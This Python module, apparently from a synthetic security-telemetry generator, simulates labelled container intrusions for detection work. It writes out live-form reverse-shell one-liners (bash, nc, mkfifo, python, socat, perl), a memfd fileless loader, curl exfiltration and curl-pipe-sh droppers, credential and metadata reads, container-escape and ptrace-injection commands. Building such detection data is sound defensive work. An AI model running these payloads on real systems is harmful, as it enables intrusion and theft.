"""Labelled attack scenarios (``label="attack"``).

Each scenario instance is one intrusion inside one workload: it starts from the way in (code
execution in a web or database process, a poisoned CI dependency), then acts through a process tree
rooted there. Which workload is hit, when, how fast the attacker types, the addresses, ports and file
names all come from the seed. Every event carries the scenario name and the MITRE ATT&CK tactic and
technique of its step.

Attack events are rendered by the same rules and renderer as benign ones, from the same kinds of
processes, addresses (`aerie.models.corpus.world.public_ip`) and hosts, so nothing but behaviour
separates them. Some scenarios are made only of individually ordinary events (``staged_payload`` is
a web process spawning ``sh``, ``curl``, ``chmod`` and an interpreter, then beaconing out: every
event is an everyday "aerie: process spawned" or "aerie: outbound connection" elsewhere); others
raise upstream rules that benign maintenance also raises.
"""

from __future__ import annotations

import base64
from collections.abc import Callable
from dataclasses import dataclass
from random import Random
from typing import Final

from .behaviour import Ctx, dns_lookup, ms, seconds
from .model import NS_PER_S, Label, Proc
from .workloads import CiJob
from .world import ENDPOINTS, Pod, hex_id, public_ip

__all__ = ["SCENARIOS", "Scenario", "run_scenario"]

_WEB: Final = ("api", "orders", "storefront", "orders-worker")
_PY_APPS: Final = ("orders", "orders-worker")
_RSHELL_PORTS: Final = (4444, 443, 9001, 1234, 8443, 53, 1337, 8080)
_C2_PORTS: Final = (443, 443, 443, 80, 8443, 8080, 4443, 2083)
_MINER_PORTS: Final = (3333, 5555, 7777, 14444, 443, 4444, 8080, 3334)
_DROP_NAMES: Final = (
    "kdevtmpfsi",
    "kinsing",
    "dbused",
    "sysupdate",
    "networkservice",
    "xmr",
    "update",
    "cron",
    "kthreadd",
    "bioset",
    ".x",
    "libsystem.so",
    "sshd",
    "systemd-journal",
    "php-fpm",
    "httpd",
)
_DROP_DIRS: Final = ("/tmp", "/tmp/.X11-unix", "/var/tmp", "/dev/shm", "/tmp/.cache", "/run/lock")


@dataclass(frozen=True, slots=True)
class Scenario:
    name: str
    tactic: str
    technique: str
    victims: tuple[str, ...]
    run: Callable[[Attack], None]


class Attack:
    """One scenario instance: its victim, timeline, infrastructure and labelled activity."""

    def __init__(
        self, ctx: Ctx, scenario: Scenario, rng: Random, *, t: int, victim: str, instance: int
    ) -> None:
        self.ctx = ctx
        self.scenario = scenario
        self.rng = rng
        self.t = t
        self.start = t
        self.instance = instance
        self.act = ctx.attack(rng, scenario.name, scenario.tactic, scenario.technique, instance)
        self.c2 = public_ip(rng)
        self.c2_port = rng.choice(_C2_PORTS)
        # What the attacker's commands name: often a throwaway domain, sometimes the bare address.
        self.c2_name = _attacker_domain(rng) if rng.random() < 0.45 else self.c2
        self.human = rng.random() < 0.6
        self.victim_name = victim
        self.ci: CiJob | None = None
        self.webshell = False
        self.pod = self._victim_pod(victim)
        self.app = self._app_proc()
        self.node = self.pod.node.hostname

    # -- setup ------------------------------------------------------------------------------

    def _victim_pod(self, victim: str) -> Pod:
        ctx, rng = self.ctx, self.rng
        if victim == "ci":
            benign = ctx.benign(Random(f"{ctx.seed}/ci-victim/{self.t}"), "ci_job")
            job = CiJob(ctx, benign, rng.choice(("node", "python", "docker")), self.t)
            job.pod.end_ns = job.run()
            self.ci = job
            self.t = job.shell.start_ns + seconds(rng, 2, 20)
            return job.pod
        wl = ctx.world[victim]
        alive = [p for p in wl.pods_at(self.t) if p.end_ns > self.t + 3600 * NS_PER_S] or wl.pods_at(self.t)
        if not alive:
            alive = [max(wl.pods, key=lambda p: p.end_ns)]
            self.t = max(self.t, alive[0].start_ns + NS_PER_S)
        return rng.choice(alive)

    def _app_proc(self) -> Proc:
        if self.ci is not None:
            return self.ci.shell
        return self.pod.serving(self.rng)

    @property
    def end(self) -> int:
        return min(self.pod.end_ns, self.ctx.t1)

    def step(self, tactic: str, technique: str) -> None:
        """Label the events that follow with this tactic and technique."""
        base = self.act.label
        self.act.label = Label(
            "attack", base.activity, base.scenario, tactic, technique, instance=base.instance
        )

    def wait(self, lo: float = 0.05, hi: float = 0.6) -> None:
        """Time between two actions: a person typing, or a script."""
        if self.human:
            self.t += seconds(self.rng, max(lo, 1.5), max(hi * 25, 25))
        else:
            self.t += seconds(self.rng, lo, hi)

    def run(
        self, parent: Proc, command: str, *, exepath: str | None = None, wait: bool = True, **kw: object
    ) -> Proc:
        """``parent`` runs ``command``. Through a web shell, every command is its own ``sh -c`` of the app."""
        if wait:
            self.wait()
        if self.webshell and parent is self.app:
            sh = self.act.spawn(
                self.t,
                self.app,
                command if command.startswith("sh -c ") else f"sh -c {command}",
                exepath="/bin/sh",
                cwd=self.app.cwd,
            )
            if command.startswith("sh -c "):
                return sh
            self.t += ms(self.rng, 0.5, 3)
            parent = sh
        return self.act.spawn(self.t, parent, command, exepath=exepath, **kw)  # type: ignore[arg-type]

    def entry(self, payload: str) -> Proc:
        """Code execution in the victim: its process runs ``sh -c <payload>``."""
        self.step("execution", "T1059.004")
        return self.act.spawn(self.t, self.app, f"sh -c {payload}", exepath="/bin/sh", cwd=self.app.cwd)

    def shell(self) -> Proc:
        """Where the attacker's commands run from.

        In a CI job, the job's own shell. Otherwise either a web shell (the app runs one ``sh -c``
        per command; returns the app process) or an interactive reverse shell (returns the shell).
        """
        if self.ci is not None:
            return self.ci.shell
        if self.rng.random() < 0.5:
            self.webshell = True
            return self.app
        variant = self.rng.choice(("bash", "python" if self.victim_name in _PY_APPS else "nc", "mkfifo"))
        return open_reverse_shell(self, variant)

    def download(
        self,
        parent: Proc,
        path: str,
        *,
        host: str | None = None,
        url: str | None = None,
        use_wget: bool | None = None,
    ) -> int:
        """Fetch a file to ``path`` (from the attacker's server unless ``url``); returns when written."""
        rng = self.rng
        self.step("command_and_control", "T1105")
        ip = host or self.c2
        port = 443 if host is not None else rng.choice((80, 8080, 443, 8000))
        name = path.rsplit("/", 1)[-1]
        if url is None:
            server = self.c2_name if host is None else ip
            url = f"{'https' if port == 443 else 'http'}://{server}:{port}/{name}"
        wget = rng.random() < 0.4 if use_wget is None else use_wget
        command = f"wget -q {url} -O {path}" if wget else f"curl -fsSL {url} -o {path}"
        proc = self.run(parent, command)
        if host is None:
            self.resolve(proc, self.t + ms(rng, 1, 4))
        self.act.connect(self.t + ms(rng, 5, 40), proc, ip, port)
        written = self.t + ms(rng, 60, 900)
        self.act.open_write(written, proc, path)
        self.t = written + ms(rng, 5, 50)
        return written

    def resolve(self, proc: Proc, t: int) -> None:
        """``proc`` looks the attacker's domain up (nothing to do for a bare address)."""
        if self.c2_name != self.c2:
            dns_lookup(self.act, t, proc, self.ctx.world)

    def chmod_x(self, parent: Proc, path: str) -> None:
        proc = self.run(parent, f"chmod +x {path}", exepath="/bin/chmod")
        self.act.chmod(self.t + ms(self.rng, 0.2, 2), proc, path, "0755")

    def beacon(self, proc: Proc, n: int, ip: str | None = None, port: int | None = None) -> None:
        """``proc`` calls home ``n`` times, a few minutes apart, while the pod lives."""
        rng = self.rng
        t = self.t
        for _ in range(n):
            t += seconds(rng, 20, 600)
            if t >= self.end:
                break
            self.act.connect(t, proc, ip or self.c2, port or self.c2_port)

    def drop_name(self) -> str:
        rng = self.rng
        name = rng.choice(_DROP_NAMES) if rng.random() < 0.6 else hex_id(rng, rng.choice((6, 8)))
        return f"{rng.choice(_DROP_DIRS)}/{name}"


_WORDS: Final = (
    "cdn",
    "update",
    "static",
    "img",
    "api",
    "sync",
    "mirror",
    "cloud",
    "data",
    "node",
    "srv",
    "edge",
    "pkg",
    "repo",
    "get",
    "dl",
    "files",
    "host",
    "net",
    "app",
)
_TLDS: Final = ("com", "net", "org", "xyz", "top", "ru", "io", "info", "online", "site")


def _attacker_domain(rng: Random) -> str:
    """A throwaway domain of the kind droppers and C2 use."""
    kind = rng.random()
    a, b = rng.choice(_WORDS), rng.choice(_WORDS)
    if kind < 0.3:
        return f"{a}{rng.randint(1, 999)}.duckdns.org"
    if kind < 0.5:
        return f"{hex_id(rng, 8)}.ngrok-free.app"
    return f"{a}-{b}{rng.randint(0, 99)}.{rng.choice(_TLDS)}"


# ---------------------------------------------------------------------------------------------
# Scenarios.

_RECON: Final = (
    ("id", "discovery", "T1033"),
    ("whoami", "discovery", "T1033"),
    ("uname -a", "discovery", "T1082"),
    ("hostname", "discovery", "T1082"),
    ("cat /etc/os-release", "discovery", "T1082"),
    ("ps aux", "discovery", "T1057"),
    ("ls -la /", "discovery", "T1083"),
    ("ls -la /app", "discovery", "T1083"),
    ("env", "discovery", "T1082"),
    ("cat /proc/1/cgroup", "discovery", "T1613"),
    ("mount", "discovery", "T1082"),
    ("df -h", "discovery", "T1082"),
    ("cat /etc/passwd", "discovery", "T1087.001"),
    ("which curl wget python3 nc perl", "discovery", "T1518"),
    ("netstat -tlnp", "discovery", "T1049"),
    ("find / -perm -4000 -type f", "discovery", "T1083"),
    ("ip a", "discovery", "T1016"),
)


def _recon(a: Attack, shell: Proc, n: int) -> None:
    for command, tactic, technique in a.rng.sample(_RECON, min(n, len(_RECON))):
        a.step(tactic, technique)
        proc = a.run(shell, command)
        if command == "cat /etc/passwd":
            a.act.open_read(a.t + ms(a.rng, 0.2, 1), proc, "/etc/passwd")


def open_reverse_shell(a: Attack, variant: str) -> Proc:
    """The victim process connects back to the attacker with a shell on the socket; returns the shell."""
    rng, act = a.rng, a.act
    ip, port = a.c2, rng.choice(_RSHELL_PORTS)
    a.step("execution", "T1059.004")
    dup = True
    if variant == "bash":
        sh = a.entry(f"bash -c 'bash -i >& /dev/tcp/{ip}/{port} 0>&1'")
        conn = shell = act.spawn(a.t + ms(rng, 1, 5), sh, "bash -i", exepath="/bin/bash")
    elif variant == "nc":
        sh = a.entry(f"nc -e /bin/sh {ip} {port}")
        conn = act.spawn(a.t + ms(rng, 1, 5), sh, f"nc -e /bin/sh {ip} {port}")
        shell = conn
    elif variant == "python":
        code = (
            "import socket,subprocess,os,pty;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
            f's.connect(("{ip}",{port}));'
            'os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);pty.spawn("/bin/bash")'
        )
        sh = a.entry(f"python3 -c '{code}'")
        conn = shell = act.spawn(
            a.t + ms(rng, 1, 5), sh, f"python3 -c {code}", exepath="/usr/local/bin/python3.12"
        )
    elif variant == "mkfifo":
        dup = False
        sh = a.entry(f"rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {ip} {port} >/tmp/f")
        act.spawn(a.t + ms(rng, 1, 3), sh, "rm -f /tmp/f", exepath="/bin/rm")
        act.spawn(a.t + ms(rng, 3, 6), sh, "mkfifo /tmp/f")
        act.spawn(a.t + ms(rng, 6, 9), sh, "cat /tmp/f", exepath="/bin/cat")
        shell = act.spawn(a.t + ms(rng, 6, 9), sh, "/bin/sh -i", exepath="/bin/sh")
        conn = act.spawn(a.t + ms(rng, 6, 9), sh, f"nc {ip} {port}")
    elif variant == "socat":
        dup = False
        sh = a.entry(f"socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:{ip}:{port}")
        conn = shell = act.spawn(
            a.t + ms(rng, 1, 5), sh, f"socat exec:bash -li,pty,stderr,setsid,sigint,sane tcp:{ip}:{port}"
        )
    else:
        code = (
            f'use Socket;$i="{ip}";$p={port};socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
            'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");'
            'open(STDERR,">&S");exec("/bin/sh -i");};'
        )
        sh = a.entry(f"perl -e '{code}'")
        conn = shell = act.spawn(a.t + ms(rng, 1, 5), sh, f"perl -e {code}")
    a.t += ms(rng, 5, 30)
    a.step("command_and_control", "T1071")
    sock = act.connect(a.t, conn, ip, port)
    a.step("execution", "T1059.004")
    if dup:
        for fd in (0, 1, 2):
            act.dup2(a.t + ms(rng, 0.05, 0.5), conn, sock, fd)
    a.t += ms(rng, 1, 3)
    if variant in ("nc", "perl"):
        shell = act.spawn(a.t, conn, "/bin/sh -i" if variant == "perl" else "sh", exepath="/bin/sh")
    elif variant in ("python", "socat"):
        shell = act.spawn(
            a.t,
            conn,
            "bash -li" if variant == "socat" else "/bin/bash",
            exepath="/bin/bash",
            tty=34816 if rng.random() < 0.8 else 34817,
        )
    a.human = True
    return shell


def reverse_shell(a: Attack) -> None:
    variant = a.rng.choice(("bash", "nc", "python", "mkfifo", "socat", "perl"))
    if variant == "python" and a.victim_name not in _PY_APPS:
        variant = "bash"
    shell = open_reverse_shell(a, variant)
    _recon(a, shell, a.rng.randint(5, 12))


def credential_access(a: Attack) -> None:
    rng, act = a.rng, a.act
    if rng.random() < 0.25 and a.victim_name in ("orders", "storefront", "api"):
        # Path traversal through the web application itself: no shell at all.
        a.step("credential_access", "T1083")
        worker = a.app
        for target in rng.sample(
            [
                "/etc/passwd",
                "/etc/shadow",
                "/root/.ssh/id_rsa",
                "/etc/kubernetes/admin.conf",
                "/etc/hostname",
                "/root/.aws/credentials",
            ],
            rng.randint(3, 5),
        ):
            depth = rng.randint(3, 7)
            raw = worker.cwd.rstrip("/") + "/static/" + "../" * depth + target.lstrip("/")
            s = act.open_read(a.t, worker, target, raw=raw)
            if worker.uid != 0 and target not in {"/etc/passwd", "/etc/hostname"}:
                s.res = "EACCES"
            a.t += ms(rng, 80, 3000)
        if rng.random() < 0.5:
            a.step("credential_access", "T1552.007")
            act.open_read(
                a.t,
                worker,
                "/var/run/secrets/kubernetes.io/serviceaccount/token",
                raw=worker.cwd.rstrip("/")
                + "/static/"
                + "../" * 6
                + "var/run/secrets/kubernetes.io/serviceaccount/token",
            )
        return
    shell = a.shell()
    root = shell.uid == 0
    steps: list[Callable[[], None]] = [
        lambda: _read_as(
            a,
            shell,
            "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
            "/var/run/secrets/kubernetes.io/serviceaccount/token",
            "T1552.007",
        ),
        lambda: _spawn_as(a, shell, "find / -name id_rsa -o -name id_ed25519 -o -name *.pem", "T1552.004"),
        lambda: _spawn_as(
            a, shell, "grep -rIl BEGIN RSA PRIVATE KEY /home /root /srv /app /opt", "T1552.004"
        ),
        lambda: _spawn_as(a, shell, "grep -ri aws_secret_access_key /app /srv /home /root /etc", "T1552.001"),
        lambda: _read_as(a, shell, "cat /proc/1/environ", "/proc/1/environ", "T1552.001"),
        lambda: _metadata(a, shell),
        lambda: _spawn_as(a, shell, "env", "T1552.001"),
    ]
    if root:
        steps += [
            lambda: _read_as(a, shell, "cat /etc/shadow", "/etc/shadow", "T1003.008"),
            lambda: _read_as(a, shell, "cat /root/.aws/credentials", "/root/.aws/credentials", "T1552.001"),
            lambda: _read_as(a, shell, "cat /root/.ssh/id_rsa", "/root/.ssh/id_rsa", "T1552.004"),
        ]
    for step in rng.sample(steps, rng.randint(3, min(6, len(steps)))):
        step()
    if rng.random() < 0.5:
        # Exfiltrate what was found.
        a.step("exfiltration", "T1041")
        proc = a.run(
            shell, f"curl -s -X POST --data-binary @/tmp/.{hex_id(rng, 4)} http://{a.c2_name}:{a.c2_port}/u"
        )
        act.connect(a.t + ms(rng, 5, 30), proc, a.c2, a.c2_port)


def _read_as(a: Attack, shell: Proc, command: str, path: str, technique: str) -> None:
    a.step("credential_access", technique)
    proc = a.run(shell, command)
    a.act.open_read(a.t + ms(a.rng, 0.2, 1.5), proc, path)


def _spawn_as(a: Attack, shell: Proc, command: str, technique: str) -> None:
    a.step("credential_access", technique)
    a.run(shell, command)


def _metadata(a: Attack, shell: Proc) -> None:
    a.step("credential_access", "T1552.005")
    for path in (
        "latest/meta-data/iam/security-credentials/",
        "latest/meta-data/iam/security-credentials/eks-node-role",
    ):
        proc = a.run(shell, f"curl -s -m 3 http://169.254.169.254/{path}")
        a.act.connect(a.t + ms(a.rng, 1, 5), proc, "169.254.169.254", 80)


def crypto_miner(a: Attack) -> None:
    rng, act = a.rng, a.act
    shell = a.shell()
    if a.ci is not None and a.ci.kind == "node" and rng.random() < 0.7:
        # A poisoned dependency's install script fetches and starts the miner.
        a.step("execution", "T1195.002")
        shell = act.spawn(
            a.t, a.ci.shell, "sh -c node scripts/postinstall.js", cwd=f"{a.ci.workdir}/node_modules/.bin"
        )
        node = act.spawn(a.t + ms(rng, 2, 10), shell, "node scripts/postinstall.js")
        shell = act.spawn(a.t + ms(rng, 200, 900), node, f"sh -c curl -s http://{a.c2_name}/x.sh | sh")
        a.human = False
    dirname = rng.choice(_DROP_DIRS)
    if rng.random() < 0.5:
        version = f"6.21.{rng.randint(0, 3)}"
        archive = f"{dirname}/xmrig-{version}-linux-static-x64.tar.gz"
        if rng.random() < 0.4:
            url = f"https://github.com/xmrig/xmrig/releases/download/v{version}/xmrig-{version}-linux-static-x64.tar.gz"
            a.download(shell, archive, host=rng.choice(ENDPOINTS["github"].ips), url=url)
        else:
            a.download(shell, archive)
        a.step("execution", "T1204.002")
        tar = a.run(shell, f"tar xzf {archive} -C {dirname}")
        binary = f"{dirname}/xmrig-{version}/xmrig"
        act.open_write(a.t + ms(rng, 20, 200), tar, binary)
        written = a.t
    else:
        binary = f"{dirname}/{rng.choice(('kworker', 'kdevtmpfsi', 'xmr', 'sysupdate', 'java', 'dbused'))}"
        written = a.download(shell, binary)
    a.chmod_x(shell, binary)
    pool, port = public_ip(rng), rng.choice(_MINER_PORTS)
    wallet = "4" + "".join(
        rng.choice("123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz") for _ in range(94)
    )
    a.step("impact", "T1496")
    if rng.random() < 0.6:
        pool_name = rng.choice(("supportxmr.com", "minexmr.com", "hashvault.pro"))
        args = f"-o stratum+tcp://pool.{pool_name}:{port} -u {wallet} -p x --donate-level 1 -B"
    else:
        cfg = f"{dirname}/.{hex_id(rng, 6)}.json"
        act.open_write(a.t, shell, cfg)
        args = f"-c {cfg} --background"
    a.wait()
    miner = a.run(shell, f"{binary} {args}", wait=False, exepath=binary, dropped_at=written)
    dns_lookup(act, a.t + ms(rng, 2, 20), miner, a.ctx.world)
    a.t += ms(rng, 20, 200)
    act.connect(a.t, miner, pool, port)
    a.beacon(miner, rng.randint(6, 25), pool, port)


def container_escape(a: Attack) -> None:
    rng, act = a.rng, a.act
    shell = a.shell()
    a.step("discovery", "T1613")
    for command in rng.sample(
        [
            "cat /proc/1/cgroup",
            "capsh --print",
            "grep CapEff /proc/self/status",
            "ls -la /var/run",
            "fdisk -l",
            "cat /proc/self/mountinfo",
        ],
        rng.randint(2, 4),
    ):
        a.run(shell, command)
    privileged = shell.container is not None and shell.container.privileged
    res = "SUCCESS" if privileged else "EPERM"
    techniques = rng.sample(
        ["mount", "nsenter", "core_pattern", "release_agent", "docker_sock"], rng.randint(2, 4)
    )
    for technique in techniques:
        a.step("privilege_escalation", "T1611")
        if technique == "mount":
            a.run(shell, "mkdir -p /mnt/host", exepath="/bin/mkdir")
            mount = a.run(shell, "mount /dev/nvme0n1p1 /mnt/host", exepath="/bin/mount")
            s = act.syscall(
                a.t + ms(rng, 1, 5),
                mount,
                "mount",
                dev="/dev/nvme0n1p1",
                dir="/mnt/host",
                type="ext4",
                flags=0,
            )
            s.res = res
            if privileged:
                root = a.run(shell, "chroot /mnt/host /bin/bash", exepath="/usr/sbin/chroot")
                a.step("persistence", "T1053.003")
                act.open_write(a.t + ms(rng, 200, 3000), root, "/mnt/host/etc/cron.d/.sysupdate")
        elif technique == "nsenter":
            ns = a.run(
                shell,
                "nsenter --target 1 --mount --uts --ipc --net --pid -- bash",
                exepath="/usr/bin/nsenter",
            )
            for kind in ("mnt", "uts", "ipc", "net", "pid")[: rng.randint(2, 5)]:
                s = act.syscall(a.t + ms(rng, 0.1, 1), ns, "setns", fd=3, nstype=f"CLONE_NEW{kind.upper()}")
                s.res = res
            if privileged:
                act.spawn(a.t + ms(rng, 2, 6), ns, "bash", exepath="/bin/bash")
        elif technique == "core_pattern":
            sh = a.run(
                shell,
                f"sh -c echo '|{a.drop_name()} %P' > /proc/sys/kernel/core_pattern",
            )
            s = act.open_write(
                a.t + ms(rng, 0.5, 2), sh, "/proc/sys/kernel/core_pattern", "O_TRUNC|O_CREAT|O_WRONLY"
            )
            s.res = res if not privileged else "SUCCESS"
        elif technique == "release_agent":
            cg = f"/tmp/cgrp{hex_id(rng, 2)}"
            a.run(shell, f"mkdir {cg}", exepath="/bin/mkdir")
            mount = a.run(shell, f"mount -t cgroup -o rdma cgroup {cg}", exepath="/bin/mount")
            s = act.syscall(a.t + ms(rng, 1, 5), mount, "mount", dev="cgroup", dir=cg, type="cgroup", flags=0)
            s.res = res
            if privileged:
                sh = a.run(shell, f"sh -c echo 1 > {cg}/x/notify_on_release")
                act.open_write(a.t + ms(rng, 0.5, 2), sh, f"{cg}/x/notify_on_release")
                sh = a.run(shell, f"sh -c echo /var/lib/containerd/cmd > {cg}/release_agent")
                act.open_write(a.t + ms(rng, 0.5, 2), sh, f"{cg}/release_agent")
        else:
            for request in ("containers/json", "images/json", "containers/create"):
                curl = a.run(shell, f"curl -s --unix-socket /var/run/docker.sock http://localhost/{request}")
                act.connect_unix(a.t + ms(rng, 1, 5), curl, "/var/run/docker.sock")


def api_server_access(a: Attack) -> None:
    rng, act = a.rng, a.act
    shell = a.shell()
    token_path = "/var/run/secrets/kubernetes.io/serviceaccount/token"
    a.step("credential_access", "T1552.007")
    cat = a.run(shell, f"cat {token_path}")
    act.open_read(a.t + ms(rng, 0.2, 1), cat, token_path)
    if rng.random() < 0.5:
        a.run(shell, "env")
    jwt = _fake_jwt(rng)
    a.step("discovery", "T1613")
    if rng.random() < 0.55:
        paths = [
            "api/v1/namespaces",
            "api/v1/namespaces/kube-system/secrets",
            "apis/rbac.authorization.k8s.io/v1/clusterroles",
            "api/v1/pods",
            "apis/authorization.k8s.io/v1/selfsubjectrulesreviews",
            "api/v1/namespaces/shop/secrets",
            "apis/apps/v1/deployments",
        ]
        for path in rng.sample(paths, rng.randint(3, 6)):
            if "secrets" in path:
                a.step("credential_access", "T1552.007")
            else:
                a.step("discovery", "T1613")
            curl = a.run(shell, f"curl -sk -H Authorization: Bearer {jwt} https://10.96.0.1:443/{path}")
            act.connect(a.t + ms(rng, 2, 20), curl, "10.96.0.1", 443)
        return
    binary = f"{rng.choice(('/tmp', '/dev/shm', '/var/tmp'))}/kubectl"
    version = rng.choice(("v1.29.2", "v1.29.3", "v1.30.0"))
    written = a.download(
        shell,
        binary,
        host=ENDPOINTS["dl-k8s"].ips[0],
        use_wget=rng.random() < 0.3,
        url=f"https://dl.k8s.io/release/{version}/bin/linux/amd64/kubectl",
    )
    a.chmod_x(shell, binary)
    for args in rng.sample(
        [
            "auth can-i --list",
            "get secrets -A",
            "get pods -A -o wide",
            "get nodes -o wide",
            "get serviceaccounts -A",
            "get configmaps -n kube-system",
            "get clusterrolebindings",
        ],
        rng.randint(3, 5),
    ):
        a.step(
            "credential_access" if "secret" in args else "discovery",
            "T1552.007" if "secret" in args else "T1613",
        )
        a.wait()
        proc = a.run(
            shell,
            wait=False,
            command=f"{binary} --token={jwt[:24]}... --server https://10.96.0.1 --insecure-skip-tls-verify "
            f"{args}",
            exepath=binary,
            dropped_at=written,
            name="kubectl",
        )
        act.connect(a.t + ms(rng, 5, 40), proc, "10.96.0.1", 443)


def _fake_jwt(rng: Random) -> str:
    def part(n: int) -> str:
        return base64.urlsafe_b64encode(rng.randbytes(n)).decode().rstrip("=")

    return f"eyJhbGciOiJSUzI1NiIsImtpZCI6{part(30)}.{part(180)}.{part(64)}"


def drop_and_execute(a: Attack) -> None:
    rng, act = a.rng, a.act
    shell = a.shell()
    path = a.drop_name()
    written = a.download(shell, path)
    a.chmod_x(shell, path)
    a.step("execution", "T1204.002")
    a.wait()
    implant = a.run(
        shell,
        wait=False,
        command=path if rng.random() < 0.6 else f"{path} -d",
        exepath=path,
        dropped_at=written,
    )
    a.t += ms(rng, 50, 500)
    a.step("command_and_control", "T1071.001")
    act.connect(a.t, implant, a.c2, a.c2_port)
    if rng.random() < 0.5:
        a.step("discovery", "T1082")
        for command in rng.sample(
            ["sh -c uname -a", "sh -c id", "sh -c cat /etc/hostname", "sh -c ps -ef"], 2
        ):
            a.t += seconds(rng, 5, 90)
            act.spawn(a.t, implant, command, exepath="/bin/sh")
    if rng.random() < 0.3 and shell.uid == 0:
        a.step("persistence", "T1543")
        cp = a.run(
            shell, f"cp {path} /usr/local/bin/.{path.rsplit('/', 1)[-1].lstrip('.')}", exepath="/bin/cp"
        )
        act.open_write(a.t + ms(rng, 1, 5), cp, f"/usr/local/bin/.{path.rsplit('/', 1)[-1].lstrip('.')}")
    a.step("command_and_control", "T1071.001")
    a.beacon(implant, rng.randint(4, 14))


def staged_payload(a: Attack) -> None:
    """Only ordinary events: a web process runs sh, curl, chmod and an interpreter that beacons."""
    rng, act = a.rng, a.act
    a.human = False
    script = f"/tmp/.{hex_id(rng, rng.choice((4, 6)))}.sh"
    port = rng.choice((80, 8080, 8000, 443))
    a.step("command_and_control", "T1105")
    sh = a.entry(f"curl -fsS http://{a.c2_name}:{port}/s > {script}")
    curl = act.spawn(a.t + ms(rng, 1, 4), sh, f"curl -fsS http://{a.c2_name}:{port}/s")
    act.open_write(a.t + ms(rng, 0.5, 1), sh, script)
    a.resolve(curl, a.t + ms(rng, 2, 4))
    act.connect(a.t + ms(rng, 5, 30), curl, a.c2, port)
    a.t += seconds(rng, 0.5, 20)
    sh2 = a.entry(f"chmod +x {script}")
    chmod = act.spawn(a.t + ms(rng, 1, 3), sh2, f"chmod +x {script}", exepath="/bin/chmod")
    act.chmod(a.t + ms(rng, 3, 5), chmod, script, "0755")
    a.t += seconds(rng, 0.5, 20)
    a.step("execution", "T1059.004")
    runner = a.entry(script)
    a.t += ms(rng, 5, 20)
    a.step("discovery", "T1082")
    for command in rng.sample(["uname -m", "id -u", "nproc", "hostname", "whoami"], rng.randint(2, 4)):
        act.spawn(a.t, runner, command)
        a.t += ms(rng, 3, 60)
    beacon_path = f"/tmp/.{hex_id(rng, 5)}.{'py' if a.victim_name in _PY_APPS else 'js'}"
    a.step("command_and_control", "T1105")
    fetch = act.spawn(a.t, runner, f"curl -fsS http://{a.c2_name}:{port}/b")
    act.open_write(a.t + ms(rng, 0.5, 1), runner, beacon_path)
    a.resolve(fetch, a.t + ms(rng, 2, 4))
    act.connect(a.t + ms(rng, 5, 30), fetch, a.c2, port)
    a.t += ms(rng, 200, 2000)
    a.step("command_and_control", "T1071.001")
    interpreter = a.app.exepath
    name = "python3" if a.victim_name in _PY_APPS else "node"
    beacon = act.spawn(a.t, runner, f"{name} {beacon_path}", exepath=interpreter)
    a.beacon(beacon, rng.randint(5, 16))


def fileless_memfd(a: Attack) -> None:
    rng, act = a.rng, a.act
    a.human = False
    port = rng.choice((80, 8080, 443))
    label = rng.choice(("", "x", "a", "kworker", "dbus"))
    scheme = "https" if port == 443 else "http"
    if a.victim_name in _PY_APPS:
        code = (
            f"import os,urllib.request as u;f=os.memfd_create('{label}',0);os.write(f,u.urlopen('{scheme}://{a.c2_name}:{port}/p').read());"
            "os.execv('/proc/self/fd/%d'%f,['[kworker/u8:2]'])"
        )
        sh = a.entry(f'python3 -c "{code}"')
        loader = act.spawn(a.t + ms(rng, 1, 4), sh, f"python3 -c {code}", exepath="/usr/local/bin/python3.12")
    else:
        code = (
            f"use LWP::Simple;my $n=syscall(319,'{label}',1);open(my $f,'>&='.$n);print $f get('{scheme}://{a.c2_name}:{port}/p');"
            "exec {'/proc/self/fd/'.$n} '[kworker/u8:2]'"
        )
        sh = a.entry(f'perl -e "{code}"')
        loader = act.spawn(a.t + ms(rng, 1, 4), sh, f"perl -e {code}")
    a.t += ms(rng, 5, 40)
    a.step("command_and_control", "T1105")
    a.resolve(loader, a.t - ms(rng, 1, 3))
    act.connect(a.t, loader, a.c2, port)
    a.t += ms(rng, 100, 900)
    a.step("defense_evasion", "T1620")
    act.syscall(a.t, loader, "memfd_create", name=label, flags="MFD_CLOEXEC")
    a.t += ms(rng, 5, 50)
    payload = act.spawn(a.t, loader, "3 [kworker/u8:2]", exepath=f"memfd:{label}", memfd=True)
    a.step("command_and_control", "T1071.001")
    act.connect(a.t + ms(rng, 50, 500), payload, a.c2, a.c2_port)
    a.beacon(payload, rng.randint(4, 14))


def ptrace_injection(a: Attack) -> None:
    rng, act = a.rng, a.act
    shell = a.shell()
    target = a.pod.main() if rng.random() < 0.5 else a.pod.serving(rng)
    # Inside the container the attacker sees namespace pids: the main process is 1.
    vpid = 1 if target is a.pod.main() else rng.randint(7, 40)
    a.step("discovery", "T1057")
    a.run(shell, "ps -ef")
    if rng.random() < 0.5:
        tool = "/tmp/.inj"
        written = a.download(shell, tool)
        a.chmod_x(shell, tool)
        a.step("defense_evasion", "T1055.008")
        a.wait()
        injector = a.run(
            shell, wait=False, command=f"{tool} -p {vpid} -l /tmp/.libc.so", exepath=tool, dropped_at=written
        )
    else:
        a.step("defense_evasion", "T1055.008")
        injector = a.run(
            shell,
            f'gdb -p {vpid} -batch -ex call (void*)dlopen("/tmp/.l.so",2) -ex detach',
            exepath="/usr/bin/gdb",
        )
    t = a.t + ms(rng, 5, 40)
    act.syscall(t, injector, "ptrace", request="PTRACE_ATTACH", pid=vpid)
    for _ in range(rng.randint(2, 6)):
        t += ms(rng, 0.5, 20)
        act.syscall(
            t, injector, "ptrace", request=rng.choice(("PTRACE_POKETEXT", "PTRACE_POKEDATA")), pid=vpid
        )
    t += ms(rng, 1, 10)
    act.syscall(t, injector, "ptrace", request="PTRACE_SETREGS", pid=vpid)
    act.syscall(t + ms(rng, 1, 5), injector, "ptrace", request="PTRACE_DETACH", pid=vpid)
    a.t = t + seconds(rng, 1, 30)
    # The injected code now runs inside the victim process and calls home from there.
    a.step("command_and_control", "T1071.001")
    act.connect(a.t, target, a.c2, a.c2_port)
